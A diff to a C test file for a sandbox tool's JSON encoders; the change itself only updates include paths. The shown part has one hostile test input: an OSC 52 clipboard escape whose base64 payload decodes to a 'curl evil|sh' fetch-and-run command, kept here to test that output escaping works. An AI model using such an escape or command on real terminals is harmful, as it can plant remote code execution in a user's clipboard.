@@ -1,6 +1,6 @@
 /*
- * test-json.c — every JSON encoder boxy writes for scripts (json.c, the
- * --audit-log lines of audit.c, the --net-log document of netlog.c, a
+ * test-json.c — every JSON encoder boxy writes for scripts (common/json.c, the
+ * --audit-log lines of daemon/audit.c, the --net-log document of broker/netlog.c, a
  * stored row re-embedded by `boxy show --json`) given the hostile names a
  * payload can choose: ESC sequences, C1 controls, overlong UTF-8, bidi
  * overrides, surrogates, truncated sequences, long names. The output is
@@ -20,10 +20,10 @@
 #include <string.h>
 #include <unistd.h>
 
-#include "audit.h"
-#include "json.h"
-#include "netlog.h"
-#include "util.h"
+#include "daemon/audit.h"
+#include "common/json.h"
+#include "broker/netlog.h"
+#include "common/util.h"
 
 static const char *const hostile[] = {
 	"evil\x1b]52;c;Y3VybCBldmlsfHNo\x07.com",      /* OSC 52 clipboard */
